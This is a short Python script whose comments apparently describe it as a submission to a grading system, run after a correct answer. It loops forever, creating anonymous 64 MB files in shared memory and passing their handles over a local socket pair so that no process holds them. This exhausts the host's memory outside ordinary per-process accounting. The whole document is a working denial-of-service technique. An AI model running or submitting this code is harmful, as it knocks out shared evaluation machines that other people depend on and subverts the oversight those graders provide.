# Sends open files without a name over a socket, so that nobody holds them.
#
# submission: code after a right answer
# squares: passed or out of memory

import os
import socket

left, right = socket.socketpair()
while True:
    handle = os.open("/dev/shm", os.O_TMPFILE | os.O_RDWR)
    os.write(handle, b"x" * 2**26)
    socket.send_fds(left, [b"x"], [handle])
    os.close(handle)
